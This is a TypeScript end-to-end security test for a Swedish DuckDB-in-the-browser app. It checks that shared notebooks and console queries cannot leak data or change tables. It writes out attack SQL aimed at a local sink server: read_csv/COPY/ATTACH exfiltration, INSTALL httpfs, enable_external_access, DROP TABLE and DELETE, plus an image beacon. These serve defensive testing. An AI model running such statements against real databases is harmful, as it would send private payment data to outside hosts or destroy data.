import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Browser, Page } from 'playwright-core';
import { createServer, type Server } from 'node:http';
import { readFile, stat } from 'node:fs/promises';
import { extname, join, resolve } from 'node:path';
import { DIST_DIR, launch, openPage, serveDist, textInView } from './harness.ts';
import { NodeConnector } from '../../src/engine/node-connector.ts';

const DATA = process.env.E2E_DATA ?? 'data/utbetalningar.parquet';

interface Listening {
  url: string;
  close: () => Promise<void>;
}

async function listen(server: Server): Promise<string> {
  await new Promise<void>((ok) => server.listen(0, '127.0.0.1', ok));
  const address = server.address();
  return `http://127.0.0.1:${typeof address === 'object' && address ? address.port : 0}`;
}

const closer = (server: Server) => () => new Promise<void>((ok) => server.close(() => ok()));

/** The outside host data must never reach: it answers everything (CORS open) and counts every request. */
async function startSink(): Promise<Listening & { hits: string[] }> {
  const hits: string[] = [];
  const server = createServer((req, res) => {
    hits.push(`${req.method} ${req.url}`);
    res.writeHead(200, { 'content-type': 'text/csv', 'access-control-allow-origin': '*', 'access-control-allow-headers': '*' }).end('a,b\n1,2\n');
  });
  return { url: await listen(server), hits, close: closer(server) };
}

/** A plain static server with no security headers at all, like a municipal web server or `vite preview` might be. */
async function startPlainServer(root: string): Promise<Listening> {
  const types: Record<string, string> = { '.html': 'text/html', '.js': 'text/javascript', '.css': 'text/css', '.wasm': 'application/wasm', '.json': 'application/json' };
  const base = resolve(root);
  const server = createServer(async (req, res) => {
    let file = join(base, decodeURIComponent(new URL(req.url ?? '/', 'http://x').pathname));
    if ((await stat(file).catch(() => null))?.isDirectory()) file = join(file, 'index.html');
    const body = await readFile(file).catch(() => null);
    if (!body) return void res.writeHead(404).end();
    res.writeHead(200, { 'content-type': types[extname(file)] ?? 'application/octet-stream' }).end(body);
  });
  return { url: `${await listen(server)}/`, close: closer(server) };
}

/** Every way SQL could send data to `sink`: a reader with the data in the URL, a URL as table, COPY, ATTACH, httpfs. */
function leaks(sink: string): Record<string, string> {
  return {
    // DuckDB allows no subquery in a table function's argument, so the "data" here is a constant.
    las_csv: `SELECT * FROM read_csv('${sink}/leak.csv?d=' || 'hushall_0001_12345kr')`,
    las_parquet: `SELECT * FROM read_parquet('${sink}/leak.parquet')`,
    las_text: `SELECT * FROM read_text('${sink}/leak.txt')`,
    url_tabell: `SELECT * FROM '${sink}/leak2.csv'`,
    kopiera: `COPY (SELECT hushall_id, utbetalt_kr FROM utbetalningar) TO '${sink}/out.csv'`,
    koppla: `ATTACH '${sink}/x.db' AS x`,
    installera: 'INSTALL httpfs',
    ladda: 'LOAD httpfs',
    slapp_los: 'SET enable_external_access = true',
    // Reading statements that wrap a reader: accepted by the read-only check, so only the engine lock stops them.
    beskriv: `DESCRIBE SELECT * FROM read_csv('${sink}/d.csv')`,
    sammanfatta: `SUMMARIZE SELECT * FROM '${sink}/s.csv'`,
    forklara: `EXPLAIN ANALYZE SELECT * FROM read_csv('${sink}/e.csv')`,
  };
}

/** Attempts to change the loaded data or the prepared tables. */
const WRITES: Record<string, string> = {
  ersatt: 'CREATE OR REPLACE TABLE utbetalningar AS SELECT * FROM utbetalningar LIMIT 10',
  tabort: 'DROP TABLE perioder',
  dold_skrivning: 'WITH a AS (SELECT 1) DELETE FROM utbetalningar',
  tom: 'DELETE FROM utbetalningar',
};

function notebookText(sink: string): string {
  const cells = Object.entries({ ...leaks(sink), ...WRITES }).map(([name, sql]) => `\`\`\`sql ${name}\n${sql}\n\`\`\``);
  return [
    '---\ntitle: Delad anteckningsbok\n---',
    `# Från en kollega\n\n![diagram](${sink}/bild.png?d=hemligt)`,
    ...cells,
    '```sql antal\nSELECT count(*)::INTEGER AS n FROM utbetalningar\n```',
  ].join('\n\n');
}

async function settled(page: Page): Promise<void> {
  await page.locator('article.notebook').waitFor({ timeout: 60_000 });
  await page.waitForFunction(
    () => {
      const a = document.querySelector('article.notebook') as HTMLElement | null;
      return !!a && a.dataset.running === 'false' && !document.querySelector('[data-status="running"],[data-status="pending"]');
    },
    undefined,
    { timeout: 60_000 },
  );
}

async function consoleRun(page: Page, sql: string): Promise<string> {
  await page.locator('#console-sql').fill(sql);
  const button = page.getByRole('button', { name: 'Kör' });
  await button.click();
  // The button is disabled while the query runs; enabled again, the panel shows this query's outcome.
  await page.locator('button:enabled', { hasText: 'Kör' }).waitFor();
  const result = page.getByTestId('console-result');
  await result.getByRole('alert').or(result.locator('table')).first().waitFor();
  return result.innerText();
}

/** The Nyckeltal page's KPI cards and yearly table, as shown. */
async function nyckeltal(page: Page, base: string): Promise<string> {
  await page.goto(`${base}#/nyckeltal`);
  const ready = page.locator('[data-testid="metrics-page"][data-state="ready"]');
  await ready.locator('[data-testid="yearly-table"] tbody tr').first().waitFor({ timeout: 60_000 });
  return `${await ready.getByTestId('kpis').innerText()}\n${await ready.getByTestId('yearly-table').innerText()}`;
}

describe('nothing leaves the browser (Chromium)', () => {
  let browser: Browser;
  let ours: Listening;
  let plain: Listening;
  let sink: Awaited<ReturnType<typeof startSink>>;
  let rows: number;

  beforeAll(async () => {
    // Independent figure: native DuckDB over the file the page's data was prepared from.
    const db = await NodeConnector.open();
    await db.loadFile('utbetalningar', DATA);
    rows = Number((await db.query('SELECT count(*)::INTEGER AS n FROM utbetalningar')).getChild('n')!.get(0));
    await db.close();
    sink = await startSink();
    ours = await serveDist();
    plain = await startPlainServer(DIST_DIR);
    browser = await launch();
  });

  afterAll(async () => {
    await browser?.close();
    await Promise.all([ours?.close(), plain?.close(), sink?.close()]);
  });

  it('the sink counts a request Chromium sends when nothing stops it (so a 0 below means something)', async () => {
    const context = await browser.newContext({ bypassCSP: true });
    const page = await context.newPage();
    await page.goto(plain.url.replace(/\/$/, '/index.html'));
    await page.evaluate((u) => fetch(u, { mode: 'no-cors' }).then(() => undefined), `${sink.url}/kontroll`);
    expect(sink.hits).toEqual(['GET /kontroll']);
    sink.hits.length = 0;
    await context.close();
  });

  it('a full session (Översikt, Nyckeltal, a notebook, Scenarier) asks only its own origin, and every response carries the CSP', async () => {
    const { page, log } = await openPage(browser);
    const responses: { url: string; status: number; csp: string | undefined; nosniff: string | undefined }[] = [];
    page.context().on('response', (r) => {
      const h = r.headers();
      responses.push({ url: r.url(), status: r.status(), csp: h['content-security-policy'], nosniff: h['x-content-type-options'] });
    });
    await page.goto(ours.url);
    await page.getByTestId('overview-charts').waitFor({ timeout: 60_000 });
    await nyckeltal(page, ours.url);
    await page.goto(`${ours.url}#/anteckningar/manadsrapport`);
    await settled(page);
    await page.goto(`${ours.url}#/scenarier`);
    await page.getByTestId('budget-effect').waitFor({ timeout: 60_000 });
    // A missing file, so an error response is in the session too.
    await page.evaluate(() => fetch('data/finns-inte.arrow').then((r) => r.status));

    const origin = new URL(ours.url).origin;
    expect(log.requests.length).toBeGreaterThan(5);
    expect(log.requests.filter((u) => !u.startsWith(`${origin}/`) && !u.startsWith('data:') && !u.startsWith('blob:'))).toEqual([]);
    const network = responses.filter((r) => r.url.startsWith('http'));
    expect(network.length).toBeGreaterThan(5);
    expect(network.some((r) => r.status === 404)).toBe(true);
    for (const r of network) {
      expect.soft(r.csp, r.url).toMatch(/default-src 'self'.*connect-src 'self'.*frame-ancestors 'none'/);
      expect.soft(r.nosniff, r.url).toBe('nosniff');
    }
    // A CSP violation is reported as a console error, so the policy also lets the whole app work.
    // (Chromium reports the deliberate 404 above as a console error; that one is expected.)
    expect(log.consoleErrors.filter((m) => !/status of 404/.test(m))).toEqual([]);
    expect(log.pageErrors).toEqual([]);
    expect(sink.hits).toEqual([]);
  });

  describe.each([
    ['our server', () => ours],
    ['a plain static server without any security header', () => plain],
  ])('served by %s', (_, server) => {
    it('notebook cells and console queries that try to reach a listening server fail, and it receives nothing; writes are refused and Nyckeltal is unchanged', async () => {
      const base = server().url;
      const { page, log } = await openPage(browser);
      const headers: (string | undefined)[] = [];
      page.on('response', (r) => void (r.url() === base && headers.push(r.headers()['content-security-policy'])));
      const before = await nyckeltal(page, base);
      expect(before).toMatch(/\d/);
      if (server() === plain) expect(headers).toEqual([undefined]);

      // A notebook shared by someone else, uploaded as a file.
      await page.goto(`${base}#/anteckningar`);
      await page.locator('label.upload input[type="file"]').setInputFiles({ name: 'delad.md', mimeType: 'text/markdown', buffer: Buffer.from(notebookText(sink.url)) });
      // Shown for review first, every SQL cell listed, nothing run yet.
      const review = page.getByTestId('notebook-review');
      await review.getByRole('heading', { name: 'Granska innan du kör' }).waitFor();
      const sqlCells = { ...leaks(sink.url), ...WRITES, antal: 'SELECT count(*)::INTEGER AS n FROM utbetalningar' };
      expect(await review.locator('.sql-list > li').count()).toBe(Object.keys(sqlCells).length);
      const listed = await review.locator('.sql-list').innerText();
      for (const sql of Object.values(sqlCells)) expect(listed).toContain(sql);
      expect(await page.locator('article.notebook').count()).toBe(0);
      await review.getByRole('button', { name: 'Spara och kör' }).click();
      await settled(page);
      for (const name of Object.keys(leaks(sink.url))) {
        expect.soft(await textInView(page.locator(`[data-cell="${name}"] .cell-error`)), name).toMatch(/får inte läsa eller skriva filer|kan bara läsa data|not in the catalog/);
      }
      for (const name of Object.keys(WRITES)) {
        expect.soft(await textInView(page.locator(`[data-cell="${name}"] .cell-error`)), name).toMatch(/kan bara läsa data/);
      }
      // The cells' results are in the edit view (the read view no longer lists intermediate queries): the read-only
      // query beside the refused ones still answers with the loaded data's full row count.
      await page.getByRole('button', { name: 'Redigera', exact: true }).click();
      await page.locator('[data-cell="antal"] summary').click();
      // The result table is drawn when the fold opens, a moment after the click.
      const count = rows.toLocaleString('sv-SE').replace(/\s/g, '');
      await expect.poll(async () => (await textInView(page.locator('[data-cell="antal"]'))).replace(/\s/g, ''), { timeout: 10_000 }).toContain(count);
      const image = page.locator('article.notebook section.cell-text').first();
      expect(await textInView(image)).toContain('bild från annan webbplats visas inte');
      expect(await image.locator('img').count()).toBe(0);

      // The same from the SQL console.
      await page.goto(`${base}#/oversikt`);
      await page.getByTestId('overview-charts').waitFor({ timeout: 60_000 });
      for (const [name, sql] of Object.entries(leaks(sink.url))) {
        expect.soft(await consoleRun(page, sql), name).toMatch(/Frågan misslyckades[\s\S]*(får inte läsa eller skriva filer|kan bara läsa data|not in the catalog)/);
      }
      for (const [name, sql] of Object.entries(WRITES)) {
        expect.soft(await consoleRun(page, sql), name).toMatch(/Frågan misslyckades[\s\S]*kan bara läsa data/);
      }
      const counted = await consoleRun(page, 'SELECT count(*)::INTEGER AS n, (SELECT count(*) FROM perioder) > 0 AS perioder_finns FROM utbetalningar');
      expect(counted.replace(/\s/g, '')).toContain(`${rows.toLocaleString('sv-SE').replace(/\s/g, '')}`);
      expect(counted).toMatch(/true|sant/i);

      expect(await nyckeltal(page, base)).toBe(before);
      expect(sink.hits).toEqual([]);
      expect(log.pageErrors).toEqual([]);
      const origin = new URL(base).origin;
      expect(log.requests.filter((u) => !u.startsWith(`${origin}/`) && !u.startsWith('data:') && !u.startsWith('blob:'))).toEqual([]);
    });
  });

  it('?data= naming another host is refused with a Swedish message, and nothing is fetched from it', async () => {
    for (const value of [`//127.0.0.1:${new URL(sink.url).port}/x.arrow`, `${sink.url}/x.arrow`, 'data/../x.arrow']) {
      const { page } = await openPage(browser);
      await page.goto(`${plain.url}?data=${encodeURIComponent(value)}`);
      const alert = page.getByRole('alert');
      await alert.waitFor({ timeout: 60_000 });
      expect(await alert.innerText()).toMatch(/Adressens datafil godtas inte[\s\S]*egen datamapp/);
      await page.context().close();
    }
    expect(sink.hits).toEqual([]);
  });
});
